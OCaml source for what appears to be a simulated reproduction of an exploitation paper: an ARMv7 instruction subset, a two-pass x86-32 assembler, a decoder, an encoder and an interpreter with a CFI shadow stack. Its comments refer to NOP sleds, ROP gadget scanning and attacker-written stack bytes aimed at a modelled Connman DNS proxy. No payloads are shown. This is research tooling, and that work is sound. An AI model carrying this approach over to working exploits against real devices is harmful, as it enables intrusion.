  | 6 -> R6
  | 7 -> R7
  | 8 -> R8
  | 9 -> R9
  | 10 -> R10
  | 11 -> R11
  | 12 -> R12
  | 13 -> SP
  | 14 -> LR
  | 15 -> PC
  | n -> invalid_arg (Printf.sprintf "reg_of_index: %d" n)

let reg_name = function
  | R0 -> "r0"
  | R1 -> "r1"
  | R2 -> "r2"
  | R3 -> "r3"
  | R4 -> "r4"
  | R5 -> "r5"
  | R6 -> "r6"
  | R7 -> "r7"
  | R8 -> "r8"
  | R9 -> "r9"
  | R10 -> "r10"
  | R11 -> "fp"
  | R12 -> "ip"
  | SP -> "sp"
  | LR -> "lr"
  | PC -> "pc"

type cond = EQ | NE | CS | CC | MI | PL | HI | LS | GE | LT | GT | LE | AL

let cond_code = function
  | EQ -> 0x0
  | NE -> 0x1
  | CS -> 0x2
  | CC -> 0x3
  | MI -> 0x4
  | PL -> 0x5
  | HI -> 0x8
  | LS -> 0x9
  | GE -> 0xA
  | LT -> 0xB
  | GT -> 0xC
  | LE -> 0xD
  | AL -> 0xE

let cond_of_code = function
  | 0x0 -> Some EQ
  | 0x1 -> Some NE
  | 0x2 -> Some CS
  | 0x3 -> Some CC
  | 0x4 -> Some MI
  | 0x5 -> Some PL
  | 0x8 -> Some HI
  | 0x9 -> Some LS
  | 0xA -> Some GE
  | 0xB -> Some LT
  | 0xC -> Some GT
  | 0xD -> Some LE
  | 0xE -> Some AL
  | _ -> None

let cond_name = function
  | EQ -> "eq"
  | NE -> "ne"
  | CS -> "cs"
  | CC -> "cc"
  | MI -> "mi"
  | PL -> "pl"
  | HI -> "hi"
  | LS -> "ls"
  | GE -> "ge"
  | LT -> "lt"
  | GT -> "gt"
  | LE -> "le"
  | AL -> ""

(* Data-processing second operand: an encodable rotated immediate, a plain
   register, or a register shifted left by a constant (the only shift form
   in the subset). *)
type op2 = Imm of int | Reg of reg | Lsl of reg * int

type op =
  | Mov of reg * op2
  | Mvn of reg * op2
  | Add of reg * reg * op2
  | Sub of reg * reg * op2
  | Rsb of reg * reg * op2
  | And of reg * reg * op2
  | Orr of reg * reg * op2
  | Eor of reg * reg * op2
  | Bic of reg * reg * op2
  | Mul of reg * reg * reg  (* mul rd, rm, rs *)
  | Cmp of reg * op2
  | Tst of reg * op2
  | Ldr of reg * reg * int  (* ldr rd, [rn, #+/-imm12] *)
  | Str of reg * reg * int
  | Ldrb of reg * reg * int
  | Strb of reg * reg * int
  | Ldr_r of reg * reg * reg  (* ldr rd, [rn, rm] *)
  | Str_r of reg * reg * reg
  | Ldrb_r of reg * reg * reg
  | Strb_r of reg * reg * reg
  | Push of reg list  (* stmdb sp!, {…} — ascending register order *)
  | Pop of reg list  (* ldmia sp!, {…} *)
  | B of int  (* byte displacement from pc+8, multiple of 4 *)
  | Bl of int
  | Bx of reg
  | Blx_r of reg
  | Svc of int

type t = { cond : cond; op : op }

let al op = { cond = AL; op }

let nop = al (Mov (R1, Reg R1))
(* `mov r1, r1` — the effect-free ARM NOP the paper uses for its sled. *)

let pp_op2 ppf = function
  | Imm i -> Format.fprintf ppf "#%d" i
  | Reg r -> Format.pp_print_string ppf (reg_name r)
  | Lsl (r, amt) -> Format.fprintf ppf "%s, lsl #%d" (reg_name r) amt

let pp_reglist ppf regs =
  Format.fprintf ppf "{%s}" (String.concat ", " (List.map reg_name regs))

let pp_mem ppf rn off =
  if off = 0 then Format.fprintf ppf "[%s]" (reg_name rn)
  else Format.fprintf ppf "[%s, #%d]" (reg_name rn) off

let pp ppf { cond; op } =
  let c = cond_name cond in
  match op with
  | Mov (rd, o) -> Format.fprintf ppf "mov%s %s, %a" c (reg_name rd) pp_op2 o
  | Mvn (rd, o) -> Format.fprintf ppf "mvn%s %s, %a" c (reg_name rd) pp_op2 o
  | Add (rd, rn, o) ->
      Format.fprintf ppf "add%s %s, %s, %a" c (reg_name rd) (reg_name rn) pp_op2 o
  | Sub (rd, rn, o) ->
      Format.fprintf ppf "sub%s %s, %s, %a" c (reg_name rd) (reg_name rn) pp_op2 o
  | Rsb (rd, rn, o) ->
      Format.fprintf ppf "rsb%s %s, %s, %a" c (reg_name rd) (reg_name rn) pp_op2 o
  | And (rd, rn, o) ->
      Format.fprintf ppf "and%s %s, %s, %a" c (reg_name rd) (reg_name rn) pp_op2 o
  | Orr (rd, rn, o) ->
      Format.fprintf ppf "orr%s %s, %s, %a" c (reg_name rd) (reg_name rn) pp_op2 o
  | Eor (rd, rn, o) ->
      Format.fprintf ppf "eor%s %s, %s, %a" c (reg_name rd) (reg_name rn) pp_op2 o
  | Bic (rd, rn, o) ->
      Format.fprintf ppf "bic%s %s, %s, %a" c (reg_name rd) (reg_name rn) pp_op2 o
  | Mul (rd, rm, rs) ->
      Format.fprintf ppf "mul%s %s, %s, %s" c (reg_name rd) (reg_name rm)
        (reg_name rs)
  | Cmp (rn, o) -> Format.fprintf ppf "cmp%s %s, %a" c (reg_name rn) pp_op2 o
  | Tst (rn, o) -> Format.fprintf ppf "tst%s %s, %a" c (reg_name rn) pp_op2 o
  | Ldr (rd, rn, off) ->
      Format.fprintf ppf "ldr%s %s, " c (reg_name rd);
      pp_mem ppf rn off
  | Str (rd, rn, off) ->
      Format.fprintf ppf "str%s %s, " c (reg_name rd);
      pp_mem ppf rn off
  | Ldrb (rd, rn, off) ->
      Format.fprintf ppf "ldrb%s %s, " c (reg_name rd);
      pp_mem ppf rn off
  | Strb (rd, rn, off) ->
      Format.fprintf ppf "strb%s %s, " c (reg_name rd);
      pp_mem ppf rn off
  | Ldr_r (rd, rn, rm) ->
      Format.fprintf ppf "ldr%s %s, [%s, %s]" c (reg_name rd) (reg_name rn)
        (reg_name rm)
  | Str_r (rd, rn, rm) ->
      Format.fprintf ppf "str%s %s, [%s, %s]" c (reg_name rd) (reg_name rn)
        (reg_name rm)
  | Ldrb_r (rd, rn, rm) ->
      Format.fprintf ppf "ldrb%s %s, [%s, %s]" c (reg_name rd) (reg_name rn)
        (reg_name rm)
  | Strb_r (rd, rn, rm) ->
      Format.fprintf ppf "strb%s %s, [%s, %s]" c (reg_name rd) (reg_name rn)
        (reg_name rm)
  | Push regs -> Format.fprintf ppf "push%s %a" c pp_reglist regs
  | Pop regs -> Format.fprintf ppf "pop%s %a" c pp_reglist regs
  | B d -> Format.fprintf ppf "b%s .%+d" c d
  | Bl d -> Format.fprintf ppf "bl%s .%+d" c d
  | Bx r -> Format.fprintf ppf "bx%s %s" c (reg_name r)
  | Blx_r r -> Format.fprintf ppf "blx%s %s" c (reg_name r)
  | Svc n -> Format.fprintf ppf "svc%s #0x%x" c n

let to_string i = Format.asprintf "%a" pp i
