(** ARMv7 A32 instruction subset (genuine encodings; see {!Encode} /
    {!Decode}).

    Chosen to cover the paper's ARM-side requirements: register-passed
    arguments (r0–r3), the link register, [pop {…, pc}] function returns
    and gadgets, [blx rN] trampolines, [svc] system calls, and the 4-byte
    [mov r1, r1] NOP used for ARM sleds (§III-A2). *)

type reg =
  | R0
  | R1
  | R2
  | R3
  | R4
  | R5
  | R6
  | R7
  | R8
  | R9
  | R10
  | R11  (** fp *)
  | R12  (** ip *)
  | SP
  | LR
  | PC

val reg_index : reg -> int
val reg_of_index : int -> reg
val reg_name : reg -> string

type cond = EQ | NE | CS | CC | MI | PL | HI | LS | GE | LT | GT | LE | AL

val cond_code : cond -> int
val cond_of_code : int -> cond option
val cond_name : cond -> string
(** Suffix form (["eq"], ["ne"], …; [""] for AL). *)

type op2 = Imm of int | Reg of reg | Lsl of reg * int
(** Data-processing second operand: an encodable rotated immediate, a
    plain register, or a register shifted left by a constant (the only
    shift form in the subset). *)

type op =
  | Mov of reg * op2
  | Mvn of reg * op2
  | Add of reg * reg * op2
  | Sub of reg * reg * op2
  | Rsb of reg * reg * op2
  | And of reg * reg * op2
  | Orr of reg * reg * op2
  | Eor of reg * reg * op2
  | Bic of reg * reg * op2
  | Mul of reg * reg * reg  (** [mul rd, rm, rs] *)
  | Cmp of reg * op2
  | Tst of reg * op2
  | Ldr of reg * reg * int  (** [ldr rd, \[rn, #±imm12\]] *)
  | Str of reg * reg * int
  | Ldrb of reg * reg * int
  | Strb of reg * reg * int
  | Ldr_r of reg * reg * reg  (** [ldr rd, \[rn, rm\]] *)
  | Str_r of reg * reg * reg
  | Ldrb_r of reg * reg * reg
  | Strb_r of reg * reg * reg
  | Push of reg list  (** [stmdb sp!, {…}] — strictly ascending list *)
  | Pop of reg list  (** [ldmia sp!, {…}] *)
  | B of int  (** byte displacement from pc+8, multiple of 4 *)
  | Bl of int
  | Bx of reg
  | Blx_r of reg
  | Svc of int

type t = { cond : cond; op : op }

val al : op -> t
(** Unconditional. *)

val nop : t
(** [mov r1, r1] — the effect-free ARM NOP the paper's sled uses. *)

val pp_op2 : Format.formatter -> op2 -> unit
val pp : Format.formatter -> t -> unit
val to_string : t -> string
