lib/isa_x86/asm.ml: Buffer Char Decode Encode Hashtbl Insn List Memsim String
