lib/isa_x86/asm.mli: Insn Memsim
