lib/isa_x86/cpu.ml: Array Decode Insn List Machine Memsim
