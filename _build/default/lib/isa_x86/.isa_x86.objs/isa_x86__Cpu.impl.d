lib/isa_x86/cpu.ml: Array Decode Hashtbl Insn List Machine Memsim
