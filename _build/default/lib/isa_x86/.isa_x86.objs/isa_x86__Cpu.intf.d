lib/isa_x86/cpu.mli: Insn Machine Memsim
