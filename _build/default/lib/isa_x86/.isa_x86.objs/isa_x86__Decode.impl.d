lib/isa_x86/decode.ml: Insn Memsim
