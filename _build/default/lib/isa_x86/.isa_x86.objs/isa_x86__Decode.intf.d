lib/isa_x86/decode.mli: Insn Memsim
