lib/isa_x86/encode.ml: Buffer Char Insn String
