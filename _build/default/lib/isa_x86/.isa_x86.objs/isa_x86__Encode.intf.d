lib/isa_x86/encode.mli: Insn
