lib/isa_x86/insn.ml: Format Memsim Printf
