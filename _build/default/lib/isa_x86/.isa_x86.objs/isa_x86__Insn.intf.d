lib/isa_x86/insn.mli: Format
