type item =
  | Label of string
  | I of Insn.t
  | Call of string
  | Jmp of string
  | Jcc of Insn.cond * string
  | Push_sym of string
  | Mov_ri_sym of Insn.reg * string
  | Bytes of string
  | Word of int
  | Word_sym of string
  | Align of int

type program = item list

type result = { base : int; code : string; symbols : (string * int) list }

(* Symbol-referencing items assemble to fixed-size encodings so sizes can be
   computed before resolution (the classic two-pass scheme). *)
let item_size = function
  | Label _ -> fun _pos -> 0
  | I i -> fun _pos -> Encode.length i
  | Call _ | Jmp _ -> fun _pos -> 5
  | Jcc _ -> fun _pos -> 6
  | Push_sym _ -> fun _pos -> 5
  | Mov_ri_sym _ -> fun _pos -> 5
  | Bytes s -> fun _pos -> String.length s
  | Word _ | Word_sym _ -> fun _pos -> 4
  | Align n ->
      fun pos ->
        if n <= 0 || n land (n - 1) <> 0 then
          failwith "Asm.Align: alignment must be a positive power of two";
        (n - (pos land (n - 1))) land (n - 1)

let assemble ?(extern = []) ~base program =
  (* Pass 1: lay out sizes and collect symbol addresses. *)
  let symbols = Hashtbl.create 16 in
  List.iter (fun (name, addr) -> Hashtbl.replace symbols name addr) extern;
  let define name addr =
    if Hashtbl.mem symbols name then failwith ("Asm: duplicate symbol " ^ name);
    Hashtbl.replace symbols name addr
  in
  let end_pos =
    List.fold_left
      (fun pos item ->
        (match item with Label name -> define name (base + pos) | _ -> ());
        pos + item_size item pos)
      0 program
  in
  ignore end_pos;
  let resolve name =
    match Hashtbl.find_opt symbols name with
    | Some a -> a
    | None -> failwith ("Asm: undefined symbol " ^ name)
  in
  (* Pass 2: emit. *)
  let buf = Buffer.create 256 in
  let emit_insn i = Buffer.add_string buf (Encode.encode i) in
  let emit_word v =
    Buffer.add_char buf (Char.chr (v land 0xFF));
    Buffer.add_char buf (Char.chr ((v lsr 8) land 0xFF));
    Buffer.add_char buf (Char.chr ((v lsr 16) land 0xFF));
    Buffer.add_char buf (Char.chr ((v lsr 24) land 0xFF))
  in
  List.iter
    (fun item ->
      let pos = Buffer.length buf in
      let here = base + pos in
      match item with
      | Label _ -> ()
      | I i -> emit_insn i
      | Call name -> emit_insn (Insn.Call_rel (Memsim.Word.sub (resolve name) (here + 5)))
      | Jmp name -> emit_insn (Insn.Jmp_rel (Memsim.Word.sub (resolve name) (here + 5)))
      | Jcc (c, name) ->
          emit_insn (Insn.Jcc (c, Memsim.Word.sub (resolve name) (here + 6)))
      | Push_sym name -> emit_insn (Insn.Push_i (resolve name))
      | Mov_ri_sym (r, name) -> emit_insn (Insn.Mov_ri (r, resolve name))
      | Bytes s -> Buffer.add_string buf s
      | Word v -> emit_word v
      | Word_sym name -> emit_word (resolve name)
      | Align n ->
          let pad = (n - (pos land (n - 1))) land (n - 1) in
          for _ = 1 to pad do
            Buffer.add_char buf '\x90'
          done)
    program;
  let defined =
    Hashtbl.fold
      (fun name addr acc ->
        if List.mem_assoc name extern then acc else (name, addr) :: acc)
      symbols []
  in
  { base; code = Buffer.contents buf; symbols = List.sort compare defined }

let symbol result name = List.assoc name result.symbols

let disassemble mem ~base ~len =
  let rec go addr acc =
    if addr >= base + len then List.rev acc
    else
      match Decode.decode_peek mem addr with
      | insn, size ->
          go (addr + size) ((addr, insn, size, Insn.to_string insn) :: acc)
      | exception Decode.Error _ -> List.rev acc
      | exception Memsim.Memory.Fault _ -> List.rev acc
  in
  go base []
