(** Two-pass x86-32 assembler with symbolic labels.

    The Connman DNS-proxy program and the simulated libc are written as
    [item] lists and assembled to real IA-32 bytes at a chosen base address.
    External symbols (e.g. PLT entries synthesised by the loader) are passed
    in via [~extern]. *)

type item =
  | Label of string  (** define a symbol at the current position *)
  | I of Insn.t  (** a concrete instruction *)
  | Call of string  (** [call label] (rel32 resolved at assembly) *)
  | Jmp of string  (** [jmp label] *)
  | Jcc of Insn.cond * string  (** conditional jump to label *)
  | Push_sym of string  (** [push imm32] of a symbol's address *)
  | Mov_ri_sym of Insn.reg * string  (** [mov r, imm32] of a symbol's address *)
  | Bytes of string  (** raw bytes (data, strings) *)
  | Word of int  (** 32-bit little-endian literal *)
  | Word_sym of string  (** 32-bit literal holding a symbol's address *)
  | Align of int  (** pad with NOPs to the given power-of-two multiple *)

type program = item list

type result = { base : int; code : string; symbols : (string * int) list }

val assemble : ?extern:(string * int) list -> base:int -> program -> result
(** Raises [Failure] on undefined or duplicate symbols. *)

val symbol : result -> string -> int
(** Address of a defined symbol.  Raises [Not_found]. *)

val disassemble :
  Memsim.Memory.t -> base:int -> len:int -> (int * Insn.t * int * string) list
(** Linear-sweep disassembly: [(addr, insn, length, rendering)] per
    instruction; stops at the first undecodable byte. *)
