open Insn
module Mem = Memsim.Memory
module Word = Memsim.Word
module Outcome = Machine.Outcome

type t = {
  mem : Mem.t;
  regs : int array;
  mutable eip : int;
  mutable zf : bool;
  mutable sf : bool;
  mutable cf : bool;
  mutable o_f : bool;
  mutable shadow : int list;
  mutable cfi : bool;
  mutable steps : int;
}

let create ?(cfi = false) mem =
  {
    mem;
    regs = Array.make 8 0;
    eip = 0;
    zf = false;
    sf = false;
    cf = false;
    o_f = false;
    shadow = [];
    cfi;
    steps = 0;
  }

let get t r = t.regs.(reg_index r)
let set t r v = t.regs.(reg_index r) <- Word.of_int v

let push t v =
  let esp = Word.sub (get t ESP) 4 in
  set t ESP esp;
  Mem.write_u32 t.mem esp v

let pop t =
  let esp = get t ESP in
  let v = Mem.read_u32 t.mem esp in
  set t ESP (Word.add esp 4);
  v

let ea t { base; disp } =
  match base with
  | None -> Word.of_int disp
  | Some r -> Word.add (get t r) disp

let read_op t = function Reg r -> get t r | Mem m -> Mem.read_u32 t.mem (ea t m)

let write_op t op v =
  match op with Reg r -> set t r v | Mem m -> Mem.write_u32 t.mem (ea t m) v

let read_op8 t = function
  | Reg r -> get t r land 0xFF
  | Mem m -> Mem.read_u8 t.mem (ea t m)

let write_op8 t op v =
  match op with
  | Reg r -> set t r (get t r land 0xFFFF_FF00 lor (v land 0xFF))
  | Mem m -> Mem.write_u8 t.mem (ea t m) (v land 0xFF)

(* Flag helpers.  Only ZF/SF/CF/OF are modelled; that is all the subset's
   conditional branches consult. *)

let set_logic_flags t res =
  t.zf <- res = 0;
  t.sf <- Word.bit res 31;
  t.cf <- false;
  t.o_f <- false

let set_add_flags t a b res =
  t.zf <- res = 0;
  t.sf <- Word.bit res 31;
  t.cf <- a + b > Word.mask;
  t.o_f <- Word.bit a 31 = Word.bit b 31 && Word.bit res 31 <> Word.bit a 31

let set_sub_flags t a b res =
  t.zf <- res = 0;
  t.sf <- Word.bit res 31;
  t.cf <- a < b;
  t.o_f <- Word.bit a 31 <> Word.bit b 31 && Word.bit res 31 <> Word.bit a 31

let cond_holds t = function
  | E -> t.zf
  | NE -> not t.zf
  | B -> t.cf
  | AE -> not t.cf
  | BE -> t.cf || t.zf
  | A -> (not t.cf) && not t.zf
  | L -> t.sf <> t.o_f
  | GE -> t.sf = t.o_f
  | LE -> t.zf || t.sf <> t.o_f
  | G -> (not t.zf) && t.sf = t.o_f
  | S -> t.sf
  | NS -> not t.sf

type kernel = int -> t -> Outcome.syscall_result

(* Return-edge CFI: every call pushes the return address onto the shadow
   stack; every ret must transfer to the address on top.  This is the
   hardware-shadow-stack model of CFI CaRE (Nyman et al. 2017). *)
let check_return t target =
  if not t.cfi then None
  else
    match t.shadow with
    | expected :: rest when expected = target ->
        t.shadow <- rest;
        None
    | expected :: _ ->
        Some (Outcome.Cfi_violation { at = t.eip; expected; got = target })
    | [] -> Some (Outcome.Cfi_violation { at = t.eip; expected = 0; got = target })

let do_call t target ret_addr =
  push t ret_addr;
  if t.cfi then t.shadow <- ret_addr :: t.shadow;
  t.eip <- target

let step t ~kernel =
  let start = t.eip in
  match Decode.decode t.mem start with
  | exception Decode.Error { addr; byte } ->
      Some (Outcome.Decode_error { addr; byte })
  | exception Mem.Fault f -> Some (Outcome.Fault f)
  | insn, size -> (
      let next = Word.add start size in
      t.eip <- next;
      t.steps <- t.steps + 1;
      let binop setf op d s =
        let a = read_op t d and b = read_op t s in
        let res = op a b in
        write_op t d res;
        setf t a b res;
        None
      in
      try
        match insn with
        | Nop -> None
        | Push_r r ->
            push t (get t r);
            None
        | Push_i i ->
            push t (Word.of_int i);
            None
        | Push_i8 i ->
            push t (Word.sign8 (i land 0xFF));
            None
        | Push_m m ->
            push t (Mem.read_u32 t.mem (ea t m));
            None
        | Pop_r r ->
            set t r (pop t);
            None
        | Mov_ri (r, i) ->
            set t r i;
            None
        | Mov (d, s) ->
            write_op t d (read_op t s);
            None
        | Mov_mi (d, i) ->
            write_op t d (Word.of_int i);
            None
        | Mov_b (d, s) ->
            write_op8 t d (read_op8 t s);
            None
        | Movzx_b (r, s) ->
            set t r (read_op8 t s);
            None
        | Lea (r, m) ->
            set t r (ea t m);
            None
        | Add (d, s) -> binop set_add_flags Word.add d s
        | Add_i (d, i) ->
            let a = read_op t d and b = Word.of_int i in
            let res = Word.add a b in
            write_op t d res;
            set_add_flags t a b res;
            None
        | Sub (d, s) -> binop set_sub_flags Word.sub d s
        | Sub_i (d, i) ->
            let a = read_op t d and b = Word.of_int i in
            let res = Word.sub a b in
            write_op t d res;
            set_sub_flags t a b res;
            None
        | And (d, s) -> binop (fun t _ _ r -> set_logic_flags t r) ( land ) d s
        | Or (d, s) -> binop (fun t _ _ r -> set_logic_flags t r) ( lor ) d s
        | Xor (d, s) -> binop (fun t _ _ r -> set_logic_flags t r) ( lxor ) d s
        | Cmp (d, s) ->
            let a = read_op t d and b = read_op t s in
            set_sub_flags t a b (Word.sub a b);
            None
        | Cmp_i (d, i) ->
            let a = read_op t d and b = Word.of_int i in
            set_sub_flags t a b (Word.sub a b);
            None
        | Test_rr (a, b) ->
            set_logic_flags t (get t a land get t b);
            None
        | Inc_r r ->
            let a = get t r in
            let res = Word.add a 1 in
            set t r res;
            t.zf <- res = 0;
            t.sf <- Word.bit res 31;
            None
        | Dec_r r ->
            let a = get t r in
            let res = Word.sub a 1 in
            set t r res;
            t.zf <- res = 0;
            t.sf <- Word.bit res 31;
            None
        | Shl_i (r, i) ->
            let res = Word.of_int (get t r lsl (i land 31)) in
            set t r res;
            set_logic_flags t res;
            None
        | Shr_i (r, i) ->
            let res = get t r lsr (i land 31) in
            set t r res;
            set_logic_flags t res;
            None
        | Neg o ->
            let v = Word.neg (read_op t o) in
            write_op t o v;
            t.zf <- v = 0;
            t.sf <- Word.bit v 31;
            t.cf <- v <> 0;
            None
        | Not o ->
            write_op t o (Word.lognot (read_op t o));
            None
        | Imul (r, o) ->
            let v = Word.mul (get t r) (read_op t o) in
            set t r v;
            None
        | Call_rel d ->
            do_call t (Word.add next d) next;
            None
        | Call_rm o ->
            do_call t (read_op t o) next;
            None
        | Jmp_rel d | Jmp_short d ->
            t.eip <- Word.add next d;
            None
        | Jmp_rm o ->
            t.eip <- read_op t o;
            None
        | Jcc (c, d) | Jcc_short (c, d) ->
            if cond_holds t c then t.eip <- Word.add next d;
            None
        | Ret -> (
            let target = pop t in
            match check_return t target with
            | Some stop -> Some stop
            | None ->
                t.eip <- target;
                None)
        | Ret_i n -> (
            let target = pop t in
            match check_return t target with
            | Some stop -> Some stop
            | None ->
                set t ESP (Word.add (get t ESP) n);
                t.eip <- target;
                None)
        | Leave -> (
            set t ESP (get t EBP);
            set t EBP (pop t);
            None)
        | Int n -> (
            match kernel n t with
            | Outcome.Resume -> None
            | Outcome.Stop reason -> Some reason)
        | Hlt -> Some Outcome.Halted
      with Mem.Fault f ->
        Some (Outcome.Fault f))

let run ?(fuel = 2_000_000) ~traps ~kernel t =
  let rec loop budget =
    if budget <= 0 then Outcome.Fuel_exhausted
    else if List.mem t.eip traps then Outcome.Halted
    else
      match step t ~kernel with
      | Some reason -> reason
      | None -> loop (budget - 1)
  in
  loop fuel
