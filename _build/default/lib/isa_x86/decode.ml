open Insn

exception Error of { addr : int; byte : int }

let decode_with get addr =
  let pos = ref addr in
  let u8 () =
    let v = get !pos in
    incr pos;
    v land 0xFF
  in
  let u16 () =
    let lo = u8 () in
    lo lor (u8 () lsl 8)
  in
  let u32 () =
    let b0 = u8 () in
    let b1 = u8 () in
    let b2 = u8 () in
    let b3 = u8 () in
    b0 lor (b1 lsl 8) lor (b2 lsl 16) lor (b3 lsl 24)
  in
  let i8 () = Memsim.Word.to_signed (Memsim.Word.sign8 (u8 ())) in
  let i32 () = Memsim.Word.to_signed (u32 ()) in
  let bad byte = raise (Error { addr; byte }) in
  (* Returns (reg_field, r/m operand). *)
  let modrm () =
    let m = u8 () in
    let md = m lsr 6 and reg_field = (m lsr 3) land 7 and rm = m land 7 in
    let operand =
      if md = 3 then Reg (reg_of_index rm)
      else begin
        let base =
          if rm = 4 then begin
            (* SIB: only "no index, base=esp" (0x24) is in the subset. *)
            let sib = u8 () in
            if sib <> 0x24 then bad sib;
            Some ESP
          end
          else if rm = 5 && md = 0 then None
          else Some (reg_of_index rm)
        in
        let disp =
          match (md, base) with
          | 0, None -> i32 ()
          | 0, Some _ -> 0
          | 1, _ -> i8 ()
          | 2, _ -> i32 ()
          | _ -> assert false
        in
        Mem { base; disp }
      end
    in
    (reg_field, operand)
  in
  let alu_store build =
    let reg_field, rm = modrm () in
    build rm (Reg (reg_of_index reg_field))
  in
  let alu_load build =
    let reg_field, rm = modrm () in
    (* The reg,reg form canonically encodes via the store opcode; decoding a
       load-form reg,reg would break encode/decode round-tripping, so it is
       rejected (assemblers in practice emit the store form too). *)
    match rm with
    | Reg _ -> bad 0x8B
    | Mem _ -> build (Reg (reg_of_index reg_field)) rm
  in
  let opcode = u8 () in
  let insn =
    match opcode with
    | 0x90 -> Nop
    | b when b >= 0x50 && b <= 0x57 -> Push_r (reg_of_index (b - 0x50))
    | b when b >= 0x58 && b <= 0x5F -> Pop_r (reg_of_index (b - 0x58))
    | 0x68 -> Push_i (u32 ())
    | 0x6A -> Push_i8 (i8 ())
    | b when b >= 0xB8 && b <= 0xBF -> Mov_ri (reg_of_index (b - 0xB8), u32 ())
    | 0x89 -> alu_store (fun d s -> Mov (d, s))
    | 0x8B -> alu_load (fun d s -> Mov (d, s))
    | 0x88 -> alu_store (fun d s -> Mov_b (d, s))
    | 0x8A -> alu_load (fun d s -> Mov_b (d, s))
    | 0x0F -> begin
        let ext = u8 () in
        match ext with
        | 0xB6 ->
            let reg_field, rm = modrm () in
            Movzx_b (reg_of_index reg_field, rm)
        | 0xAF ->
            let reg_field, rm = modrm () in
            Imul (reg_of_index reg_field, rm)
        | e when e >= 0x80 && e <= 0x8F -> begin
            match cond_of_code (e land 0xF) with
            | Some c -> Jcc (c, i32 ())
            | None -> bad ext
          end
        | _ -> bad ext
      end
    | 0x8D -> begin
        let reg_field, rm = modrm () in
        match rm with
        | Mem m -> Lea (reg_of_index reg_field, m)
        | Reg _ -> bad opcode
      end
    | 0x01 -> alu_store (fun d s -> Add (d, s))
    | 0x03 -> alu_load (fun d s -> Add (d, s))
    | 0x29 -> alu_store (fun d s -> Sub (d, s))
    | 0x2B -> alu_load (fun d s -> Sub (d, s))
    | 0x21 -> alu_store (fun d s -> And (d, s))
    | 0x23 -> alu_load (fun d s -> And (d, s))
    | 0x09 -> alu_store (fun d s -> Or (d, s))
    | 0x0B -> alu_load (fun d s -> Or (d, s))
    | 0x31 -> alu_store (fun d s -> Xor (d, s))
    | 0x33 -> alu_load (fun d s -> Xor (d, s))
    | 0x39 -> alu_store (fun d s -> Cmp (d, s))
    | 0x3B -> alu_load (fun d s -> Cmp (d, s))
    | 0x85 -> begin
        let reg_field, rm = modrm () in
        match rm with
        | Reg a -> Test_rr (a, reg_of_index reg_field)
        | Mem _ -> bad opcode
      end
    | 0x83 | 0x81 -> begin
        let ext, rm = modrm () in
        let imm = if opcode = 0x83 then i8 () else i32 () in
        match ext with
        | 0 -> Add_i (rm, imm)
        | 5 -> Sub_i (rm, imm)
        | 7 -> Cmp_i (rm, imm)
        | _ -> bad opcode
      end
    | 0xC7 -> begin
        let ext, rm = modrm () in
        match ext with 0 -> Mov_mi (rm, u32 ()) | _ -> bad opcode
      end
    | 0xF7 -> begin
        let ext, rm = modrm () in
        match ext with
        | 2 -> Not rm
        | 3 -> Neg rm
        | _ -> bad opcode
      end
    | b when b >= 0x70 && b <= 0x7F -> begin
        match cond_of_code (b land 0xF) with
        | Some c -> Jcc_short (c, i8 ())
        | None -> bad b
      end
    | 0xEB -> Jmp_short (i8 ())
    | 0xC1 -> begin
        let ext, rm = modrm () in
        match (ext, rm) with
        | 4, Reg r -> Shl_i (r, u8 ())
        | 5, Reg r -> Shr_i (r, u8 ())
        | _ -> bad opcode
      end
    | b when b >= 0x40 && b <= 0x47 -> Inc_r (reg_of_index (b - 0x40))
    | b when b >= 0x48 && b <= 0x4F -> Dec_r (reg_of_index (b - 0x48))
    | 0xE8 -> Call_rel (i32 ())
    | 0xE9 -> Jmp_rel (i32 ())
    | 0xFF -> begin
        let ext, rm = modrm () in
        match (ext, rm) with
        | 2, _ -> Call_rm rm
        | 4, _ -> Jmp_rm rm
        | 6, Mem m -> Push_m m
        | _ -> bad opcode
      end
    | 0xC3 -> Ret
    | 0xC2 -> Ret_i (u16 ())
    | 0xC9 -> Leave
    | 0xCD -> Int (u8 ())
    | 0xF4 -> Hlt
    | b -> bad b
  in
  (insn, !pos - addr)

let decode mem addr = decode_with (Memsim.Memory.fetch_u8 mem) addr
let decode_peek mem addr = decode_with (Memsim.Memory.read_u8 mem) addr
