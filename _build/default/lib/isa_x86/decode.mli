(** IA-32 instruction decoding (inverse of {!Encode} on the subset).

    Decoding is fundamental twice over in this reproduction: the interpreter
    fetch-decodes through it (so executing attacker-written stack bytes only
    works when those bytes are valid machine code), and the gadget finder
    sweeps executable segments through it exactly as [ROPgadget] does. *)

exception Error of { addr : int; byte : int }
(** Raised on a byte sequence outside the subset (SIGILL analogue). *)

val decode_with : (int -> int) -> int -> Insn.t * int
(** [decode_with get addr] decodes one instruction whose bytes are fetched
    by [get] at absolute addresses starting from [addr].  Returns the
    instruction and its encoded length. *)

val decode : Memsim.Memory.t -> int -> Insn.t * int
(** Fetch-decode from memory, honouring execute permission (raises
    [Memsim.Memory.Fault] on NX pages — the W⊕X mechanism). *)

val decode_peek : Memsim.Memory.t -> int -> Insn.t * int
(** Permission-blind decode for offline analysis (gadget scanning). *)
