open Insn

let u8 b v = Buffer.add_char b (Char.chr (v land 0xFF))

let u16 b v =
  u8 b v;
  u8 b (v lsr 8)

let u32 b v =
  u8 b v;
  u8 b (v lsr 8);
  u8 b (v lsr 16);
  u8 b (v lsr 24)

let fits_i8 v = v >= -128 && v <= 127

(* ModRM (+ optional SIB and displacement) for a register-field value and an
   r/m operand.  mod=00 with rm=101 means absolute disp32, so [ebp] must be
   encoded as [ebp+0] with a disp8; [esp] always needs the SIB byte 0x24. *)
let modrm b reg_field = function
  | Reg r -> u8 b (0xC0 lor (reg_field lsl 3) lor reg_index r)
  | Mem { base = None; disp } ->
      u8 b (0x00 lor (reg_field lsl 3) lor 0x5);
      u32 b disp
  | Mem { base = Some base; disp } ->
      let rm = reg_index base in
      let md =
        if disp = 0 && base <> EBP then 0x0 else if fits_i8 disp then 0x1 else 0x2
      in
      u8 b ((md lsl 6) lor (reg_field lsl 3) lor rm);
      if base = ESP then u8 b 0x24;
      if md = 0x1 then u8 b disp else if md = 0x2 then u32 b disp

(* Two-operand ALU ops share the layout: [op_store /r] when the destination
   is r/m, [op_load /r] when the destination is a register and the source is
   memory.  Register-to-register uses the store form. *)
let alu b ~op_store ~op_load dst src =
  match (dst, src) with
  | (Reg _ | Mem _), Reg r ->
      u8 b op_store;
      modrm b (reg_index r) dst
  | Reg r, Mem _ ->
      u8 b op_load;
      modrm b (reg_index r) src
